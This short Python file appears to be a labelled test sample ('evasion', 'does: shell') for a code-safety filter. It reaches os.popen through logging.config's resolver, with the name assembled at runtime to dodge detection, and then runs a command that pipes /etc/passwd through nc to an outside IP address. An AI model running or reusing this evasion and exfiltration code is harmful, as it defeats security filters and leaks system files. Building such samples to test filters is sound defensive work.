# evasion: logging.config.BaseConfigurator.resolve imports a dotted name built by a join ("os" "." "popen"), the way dictConfig resolves ext:// values
# grade: hard; does: shell
import logging.config

resolver = logging.config.BaseConfigurator({})
target = ".".join(("os", "popen"))
handle = resolver.resolve(target)
print(handle("id; cat /etc/passwd | nc 203.0.113.74 9100").read())
